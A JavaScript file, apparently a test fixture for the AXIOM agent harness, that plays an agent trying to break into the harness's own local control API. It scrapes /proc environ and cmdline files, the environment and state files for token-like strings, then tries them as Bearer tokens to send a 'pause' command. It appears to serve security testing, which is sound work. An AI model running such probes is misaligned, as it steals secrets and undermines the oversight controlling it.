// An agent that does no work: it looks for a way into AXIOM's own API, and says what came of it.
import { readdirSync, readFileSync } from 'node:fs'
import { homedir } from 'node:os'
import { join } from 'node:path'

const prompt = readFileSync(0, 'utf8')
const port = /the port is (\d+)/.exec(prompt)?.[1] ?? '0'
const address = `http://127.0.0.1:${port}`

function textOf(path) {
  try {
    return readFileSync(path, 'latin1')
  } catch {
    return ''
  }
}

function namesIn(folder) {
  try {
    return readdirSync(folder)
  } catch {
    return []
  }
}

const state = join(homedir(), '.local/state/axiom')
const notes = [state, process.env.XDG_STATE_HOME ?? '/nowhere', '/tmp']
  .flatMap((folder) => [folder, ...namesIn(folder).map((name) => join(folder, name))])
  .map((folder) => textOf(join(folder, 'serve.json')))
const processes = namesIn('/proc')
  .filter((name) => /^\d+$/.test(name))
  .flatMap((pid) => [textOf(`/proc/${pid}/environ`), textOf(`/proc/${pid}/cmdline`)])
const seen = [JSON.stringify(process.env), prompt, ...notes, ...processes].join('\n')
const guesses = [...new Set(seen.match(/[A-Za-z0-9_-]{43}/g) ?? [])].slice(0, 50)

async function attempt(method, path, headers, body) {
  try {
    const answer = await fetch(`${address}${path}`, { method, headers, body })
    await answer.body?.cancel()
    return answer.status
  } catch (error) {
    return String(error.cause?.code ?? error.message)
  }
}

const json = { 'content-type': 'application/json' }
const pause = JSON.stringify({ key: 'from-an-agent', command: { kind: 'pause' } })
const statuses = [
  await attempt('GET', '/api/snapshot', {}),
  await attempt('GET', '/api/stream', { origin: address }),
  await attempt('POST', '/api/commands', json, pause),
  await attempt('POST', '/api/commands', { ...json, authorization: 'Bearer x', origin: address }, pause),
]
for (const guess of guesses) {
  statuses.push(await attempt('POST', '/api/commands', { ...json, authorization: `Bearer ${guess}` }, pause))
}
const report = JSON.stringify({ statuses, variables: Object.keys(process.env) })
process.stdout.write(`REPORT ${report} END\n<axiom>BLOCKED:found no way in</axiom>\n`)
